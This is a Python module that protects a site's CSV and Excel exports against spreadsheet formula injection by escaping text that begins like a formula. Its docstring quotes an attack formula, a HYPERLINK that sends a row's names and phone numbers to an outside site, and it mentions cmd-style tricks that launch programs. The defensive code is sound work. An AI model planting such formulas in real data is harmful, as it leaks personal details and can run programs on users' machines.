"""Cells a spreadsheet never runs: every CSV and Excel export of the site writes its values through here.

A villager's address `=HYPERLINK("http://…"&B2,"Xem")` opened in Excel or LibreOffice
would be a live formula: one click sends the row's neighbours (names, phone numbers)
to that site, and older `=cmd|…` tricks start programs (OWASP: CSV injection).

- CSV (`csv_value`): a text that starts with `=`, `+`, `-`, `@`, a tab or a carriage
  return (or with spaces and then one of `= + - @`, or their full-width forms) gets a
  leading apostrophe, so the spreadsheet shows it as text.
- Excel (`xlsx_cell`): every text is written as a text cell (data type "s", never a
  formula) marked "quote prefix", so it shows exactly as typed and stays text when the
  cell is edited; characters XML cannot carry are dropped instead of failing the export.

Numbers (int, float, Decimal) stay numbers in both: a count is never text starting
with "-". Other values (dates, None) pass unchanged.
"""
from datetime import date, datetime, time
from decimal import Decimal

from .kept import memo

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_AFTER_SPACES = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
NUMBER_TYPES = (int, float, Decimal)
KEPT_TYPES = (date, datetime, time)  # written as the spreadsheet's own dates


def looks_like_formula(text):
    """True when a spreadsheet could read this text as a formula (or a command)."""
    if not isinstance(text, str) or not text:
        return False
    return text.startswith(FORMULA_STARTS) or text.lstrip(" \u00a0\n").startswith(_AFTER_SPACES)


def _is_number(value):
    return isinstance(value, NUMBER_TYPES) and not isinstance(value, bool)


def _kept(value):
    return value is None or _is_number(value) or isinstance(value, KEPT_TYPES)


def csv_value(value):
    """A value as a CSV cell: numbers unchanged, text that could run prefixed with an apostrophe."""
    if _kept(value):
        return value
    text = value if isinstance(value, str) else str(value)
    return "'" + text if looks_like_formula(text) else text


@memo(maxsize=None)
def _openpyxl():
    """openpyxl's cell parts, imported on the first Excel export: the idle server does not carry
    the library (~15 MB). The caller made the workbook, so it is loaded by then anyway."""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE

    return WriteOnlyCell, ERROR_CODES, ILLEGAL_CHARACTERS_RE


def csv_row(row):
    """csv_value of each value of a row."""
    return [csv_value(value) for value in row]


def xlsx_cell(sheet, value, font=None):
    """A write-only cell: numbers as numbers, every text as a text cell that never becomes a formula."""
    WriteOnlyCell, _, ILLEGAL_CHARACTERS_RE = _openpyxl()  # noqa: N806 - openpyxl's own names
    if _kept(value):
        cell = WriteOnlyCell(sheet, value=value)
    else:
        text = ILLEGAL_CHARACTERS_RE.sub("", value if isinstance(value, str) else str(value))
        cell = WriteOnlyCell(sheet)
        cell.value = text
        cell.data_type = "s"  # set after the value: openpyxl reads "=…" as a formula, "#N/A" as an error
        if looks_like_formula(text):
            cell.quotePrefix = True  # Excel keeps it text when the cell is edited
    if font is not None:
        cell.font = font
    return cell


def _xlsx_value(sheet, value):
    # A plain text openpyxl would not read as a formula or an error code goes as it is (half the time
    # of a cell object, for the thousands of rows of a register); anything else through xlsx_cell.
    if isinstance(value, str):
        _, ERROR_CODES, ILLEGAL_CHARACTERS_RE = _openpyxl()  # noqa: N806 - openpyxl's own names
        text = ILLEGAL_CHARACTERS_RE.sub("", value)
        if not looks_like_formula(text) and text not in ERROR_CODES:
            return text
    elif _kept(value):
        return value
    return xlsx_cell(sheet, value)


def xlsx_row(sheet, row):
    """A row for sheet.append(): every text stays text, numbers stay numbers."""
    return [_xlsx_value(sheet, value) for value in row]
